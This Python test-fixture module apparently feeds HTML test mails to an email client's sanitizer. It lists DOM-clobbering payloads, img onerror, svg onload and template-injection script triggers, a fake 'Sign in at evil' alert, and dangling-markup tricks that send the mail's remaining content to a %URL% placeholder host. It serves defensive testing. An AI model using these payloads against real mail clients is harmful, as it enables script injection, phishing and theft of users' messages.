"""DOM clobbering: names that take the place of what a script uses. Dangling markup: a mail that swallows what follows."""

from ..mail import html

BEACON = "<img src=%URL%/i.png>"  # shows in the control that the mail was parsed at all
NAMES = (  # what the sanitizer, the frame's script or the page could ask the document or the window for
    "body", "head", "documentElement", "querySelector", "querySelectorAll", "getElementById", "getElementsByTagName",
    "createElement", "adoptNode", "importNode", "replaceChild", "appendChild", "addEventListener", "removeEventListener",
    "styleSheets", "fonts", "scrollingElement", "activeElement", "defaultView", "implementation", "children", "childNodes",
    "parentNode", "firstChild", "attributes", "nodeName", "nodeType", "namespaceURI", "remove", "removeChild",
    "setAttribute", "getAttribute", "hasChildNodes", "insertBefore", "innerHTML", "textContent", "classList", "style",
    "cookie", "domain", "location", "forms", "images", "links", "scripts", "currentScript", "readyState", "write",
    "port", "onmessage", "parent", "top", "self", "window", "document", "postMessage", "ResizeObserver", "URL", "Blob",
    "MessageChannel", "close", "open", "name", "event", "closest", "matches", "dataset", "href",
)  # fmt: skip


def everything(element: str, attribute: str) -> str:
    return "".join(f"<{element} {attribute}={name}></{element}>" for name in NAMES)


MAILS = (
    html("clobber-img-name", "pictures by all names", "".join(f"<img name={n}>" for n in NAMES) + BEACON),
    html("clobber-img-id", "pictures by id and name", "".join(f"<img name={n} id={n}>" for n in NAMES) + BEACON),
    html("clobber-a-id", "links by all names", everything("a", "id") + BEACON),
    html("clobber-a-twice", "two of each make a collection", everything("a", "id") * 2 + BEACON),
    html("clobber-form-name", "forms by all names", everything("form", "name") + BEACON),
    html("clobber-form-inputs", "one form with inputs by all names", "<form id=f>" + "".join(f"<input name={n}>" for n in NAMES) + "</form>" + BEACON),
    html("clobber-form-in-form", "forms whose inputs have names, two levels", "".join(f"<form id={n} name=x><output id=y name=value>z</output></form>" for n in NAMES) + BEACON),
    html("clobber-iframe-name", "frames by all names", "".join(f"<iframe name={n}></iframe>" for n in NAMES[:20]) + BEACON),
    html("clobber-iframe-srcdoc", "frames whose windows hold more names", "<iframe name=port srcdoc='<a id=postMessage></a>'></iframe><iframe name=document srcdoc='<a id=body></a>'></iframe>" + BEACON),
    html("clobber-object-id", "objects by all names", everything("object", "id") + BEACON),
    html("clobber-embed-name", "embeds by all names", "".join(f"<embed name={n}>" for n in NAMES) + BEACON),
    html("clobber-attributes", "a form that hides its attributes from the sanitizer (DOMPurify)", "<form onmouseover=1><input name=attributes><input name=attributes></form><form id=c onclick=%JS%><input name=attributes value=x>click</form>", click="#c"),
    html("clobber-parent", "a form that hides its parent", "<form><input name=parentNode><input name=nextSibling><input name=remove></form><img src=x: onerror=%JS%>"),
    html("clobber-nodename", "a form that hides what it is", "<form onsubmit=1><input name=nodeName><input name=tagName><input name=localName></form><svg onload=%JS%>"),
    html("clobber-shadow", "a form that hides its shadow root", "<form><input name=shadowRoot><input name=content></form><img src=x: onerror=%JS%>"),
    html("clobber-owner", "a form that hides its document", "<form><input name=ownerDocument><input name=getRootNode></form><img src=x: onerror=%JS%>"),
    html("clobber-proto", "names of every object", "<a id=__proto__></a><img name=constructor><img name=prototype><img name=hasOwnProperty><img name=toString>" + BEACON),
    html("clobber-config", "names that pages read as settings", "<a id=config href=%URL%/c></a><a id=config name=url href=%URL%/u></a><a id=trustedTypes></a><a id=DOMPurify></a>" + BEACON),
    html("clobber-own-names", "the names of our own page", "<div id=svelte-announcer></div><div id=app></div><div id=sveltekit-body></div><main></main><nav></nav>" + BEACON),
    html("clobber-own-classes", "our own marks and classes, forged", "<details class=quote open><summary>x</summary></details><p data-cid=1@x data-quote>y</p><img data-cid=../../x>" + BEACON),
    html("clobber-aria", "names for the screen reader of things that are not there", "<p id=warning role=alert aria-live=assertive>Your session has ended. Sign in at evil.</p><div role=dialog aria-modal=true aria-label='Sign in'>x</div>" + BEACON),
    html("dangling-img", "an attribute that swallows what follows", "<p>before</p><img src='%URL%/?", silent="nothing follows where nothing protects"),
    html("dangling-img-closed", "swallows the rest of the mail", "<img src='%URL%/?<p>secret</p>'>"),
    html("dangling-target", "a window's name that swallows", "<a id=c href=%URL%/ target='x<p>secret</p>'>x</a>", click="#c"),
    html("dangling-base", "a base' target that swallows", "<a id=c href=%URL%/>x</a><base target='<p>secret</p>'>", click="#c"),
    html("dangling-style", "a style that swallows", "<style>@import '%URL%/?<p>secret</p>';"),
    html("dangling-textarea", "a textarea that swallows", "<img src=%URL%/i.png><form action=%URL%/><input type=submit><textarea name=x><p>secret"),
    html("dangling-option", "an option that swallows", "<img src=%URL%/i.png><form action=%URL%/><select><option><p>secret"),
    html("dangling-meta", "a refresh that swallows", "<meta http-equiv=refresh content='0;%URL%/?<p>secret</p>'>", connects="a refresh"),
    html("dangling-noscript", "a noscript that never ends", "<img src=%URL%/i.png><noscript><form action=%URL%/>"),
    html("dangling-comment", "a comment that never ends", "<img src=%URL%/i.png><!-- the rest is gone"),
    html("dangling-plaintext", "plaintext, which never ends", "<img src=%URL%/i.png><plaintext>"),
    html("dangling-end-tags", "ends of what the page opened", "</div></main></body></html></iframe></template></noscript></textarea></title></style></script>" + BEACON),
    html("dangling-quote", "a quote that the page's attribute could meet", "\"'><img src=%URL%/i.png>"),
    html("dangling-template", "expressions of frameworks", "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>{@html '<img src=x: onerror=alert(1)>'}" + BEACON),
    html("dangling-popover", "attributes that act without a script", "<p popover=auto id=p>x</p><button popovertarget=p popovertargetaction=show>y</button><p inert contenteditable draggable=true spellcheck=true translate=no enterkeyhint=go>z</p>" + BEACON),
)
